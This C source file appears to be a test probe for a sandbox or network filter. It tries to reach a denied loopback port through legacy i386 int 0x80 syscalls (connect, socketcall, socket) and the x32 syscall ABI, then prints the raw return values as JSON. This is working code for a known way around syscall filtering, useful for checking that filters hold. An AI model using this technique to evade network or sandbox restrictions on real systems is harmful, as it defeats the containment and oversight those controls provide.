/* Re-aim a bypassed host socket through the i386 entry points (int 0x80) of a 64-bit task.
 * usage: int80 ALLOWED_PORT DENIED_PORT  -> one JSON line with the raw return values */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <unistd.h>

static long int80(long nr, long a, long b, long c) {
    long ret;
    __asm__ volatile("int $0x80"
                     : "=a"(ret)
                     : "a"(nr), "b"(a), "c"(b), "d"(c)
                     : "memory", "r8", "r9", "r10", "r11");
    return ret;
}

#define I386_GETPID 20
#define I386_SOCKETCALL 102
#define I386_SOCKET 359
#define I386_CONNECT 362
#define SYS_CONNECT 3

int main(int argc, char **argv) {
    if (argc < 3) return 2;
    /* i386 calls take 32-bit pointers: keep the arguments below 4 GiB */
    char *low = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
    if (low == MAP_FAILED) return 3;
    struct sockaddr_in *denied = (struct sockaddr_in *)low;
    struct sockaddr *unspec = (struct sockaddr *)(low + 64);
    unsigned int *callargs = (unsigned int *)(low + 128);
    denied->sin_family = AF_INET;
    denied->sin_port = htons(atoi(argv[2]));
    denied->sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    memset(unspec, 0, 16);

    struct sockaddr_in allowed = *denied;
    allowed.sin_port = htons(atoi(argv[1]));
    int s = socket(AF_INET, SOCK_STREAM, 0);
    int rc = connect(s, (struct sockaddr *)&allowed, sizeof allowed);
    char greet[16] = {0};
    if (rc == 0) read(s, greet, 7);

    long getpid_rc = int80(I386_GETPID, 0, 0, 0);
    long unspec_rc = int80(I386_CONNECT, s, (long)unspec, 16);
    callargs[0] = s; callargs[1] = (unsigned int)(unsigned long)unspec; callargs[2] = 16;
    long sc_unspec_rc = int80(I386_SOCKETCALL, SYS_CONNECT, (long)callargs, 0);
    long denied_rc = int80(I386_CONNECT, s, (long)denied, 16);
    callargs[1] = (unsigned int)(unsigned long)denied;
    long sc_denied_rc = int80(I386_SOCKETCALL, SYS_CONNECT, (long)callargs, 0);
    int t = socket(AF_INET, SOCK_STREAM, 0);
    long fresh_rc = int80(I386_CONNECT, t, (long)denied, 16);
    long sock32 = int80(I386_SOCKET, AF_INET, SOCK_STREAM, 0);
    long sock32_connect = sock32 >= 0 ? int80(I386_CONNECT, sock32, (long)denied, 16) : sock32;
    /* x32 entry point: connect with the x32 bit set */
    long x32_rc = syscall(42 | 0x40000000, s, denied, 16) == -1 ? -errno : 0;
    printf("{\"first\": %d, \"greeting\": \"%s\", \"getpid_matches\": %s, \"unspec\": %ld, "
           "\"socketcall_unspec\": %ld, \"denied\": %ld, \"socketcall_denied\": %ld, \"fresh\": %ld, "
           "\"socket32_connect\": %ld, \"x32\": %ld}\n",
           rc, greet, getpid_rc == getpid() ? "true" : "false", unspec_rc, sc_unspec_rc, denied_rc,
           sc_denied_rc, fresh_rc, sock32_connect, x32_rc);
    return 0;
}
